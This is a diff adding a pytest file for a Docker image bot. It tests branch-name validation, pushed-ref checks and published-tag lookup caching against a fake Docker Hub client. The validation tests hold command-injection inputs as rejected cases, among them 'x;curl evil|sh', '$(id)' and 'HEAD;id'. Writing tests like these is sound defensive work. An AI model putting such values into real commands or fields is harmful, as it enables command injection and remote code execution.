@@ -0,0 +1,93 @@
+import threading
+import time
+from datetime import datetime
+
+import pytest
+
+from xud_docker_bot.clients import DockerImage
+from xud_docker_bot.clients.docker import Tag
+from xud_docker_bot.xud_docker import XudDockerRepo, is_valid_branch, check_pushed_ref, NULL_REVISION
+
+
+class FakeDockerhubClient:
+    def __init__(self):
+        # tag -> (tree, last_updated)
+        self.tags = {"latest": ("t1", "1"), "latest__foo": ("t2", "1"), "latest__foo__x86_64": ("t2", "1")}
+        self.tag_digests = {}
+        self.get_images_calls = []
+        self.get_tags_calls = 0
+
+    def get_tags(self, repo):
+        self.get_tags_calls += 1
+        time.sleep(0.05)
+        return [Tag(name, 0, updated) for name, (_, updated) in self.tags.items()]
+
+    def get_images(self, repo, tag):
+        self.get_images_calls.append(tag)
+        tree = self.tags[tag][0]
+        self.tag_digests[(repo, tag)] = "sha256:" + tree
+        return [DockerImage("sha256:" + p, "r", "a", datetime.now(), platform=p, tree=tree)
+                for p in ["linux/amd64", "linux/arm64"]]
+
+    def get_manifest_digest(self, repo, tag):
+        return "sha256:" + self.tags[tag][0]
+
+
+def test_is_valid_branch():
+    assert is_valid_branch("master")
+    assert is_valid_branch("feat/utils-1.2")
+    for branch in ["x;curl evil|sh", "$(id)", "a b", "a..b", "-x", "refs/heads/x.lock", "HEAD", "a/.b", "a//b",
+                   "a/", "/a", "a.", "a/b.lock/c", "@"]:
+        assert not is_valid_branch(branch), branch
+
+
+def test_check_pushed_ref():
+    check_pushed_ref("refs/heads/master", "0123456789abcdef0123456789abcdef01234567")
+    check_pushed_ref("refs/heads/master", NULL_REVISION)
+    check_pushed_ref("refs/heads/master", None)
+    for ref, revision in [
+        ("refs/heads/master", "HEAD;id"),
+        ("refs/heads/master", "0123456"),
+        ("refs/heads/x;id", None),
+        ("refs/tags/v1.0", None),
+    ]:
+        with pytest.raises(ValueError):
+            check_pushed_ref(ref, revision)
+
+
+def test_find_published_tree_only_reads_updated_tags(tmp_path):
+    client = FakeDockerhubClient()
+    repo = XudDockerRepo(str(tmp_path), client)
+    assert repo._find_published_tree("xud", "t2") == ("latest__foo", "sha256:t2")
+    assert sorted(client.get_images_calls) == ["latest", "latest__foo"]
+
+    # Misses are final until a tag is pushed again
+    client.get_images_calls.clear()
+    assert repo._find_published_tree("xud", "t3") is None
+    assert client.get_images_calls == []
+    client.tags["latest__foo"] = ("t3", "2")
+    assert repo._find_published_tree("xud", "t3") == ("latest__foo", "sha256:t3")
+    assert client.get_images_calls == ["latest__foo"]
+    assert repo._find_published_tree("xud", "t2") is None
+
+    # Retags are recorded without reading the registry
+    client.get_images_calls.clear()
+    repo.record_published("xud", "latest__bar", "t4", "sha256:t4")
+    client.tags["latest__bar"] = ("t4", "1")
+    assert repo._find_published_tree("xud", "t4") == ("latest__bar", "sha256:t4")
+    assert client.get_images_calls == []
+
+
+def test_concurrent_lookups_share_the_tag_listing(tmp_path):
+    client = FakeDockerhubClient()
+    repo = XudDockerRepo(str(tmp_path), client)
+    results = []
+    threads = [threading.Thread(target=lambda: results.append(repo._find_published_tree("xud", "t1")))
+               for _ in range(4)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert results == [("latest", "sha256:t1")] * 4
+    assert client.get_tags_calls == 1
+    assert sorted(client.get_images_calls) == ["latest", "latest__foo"]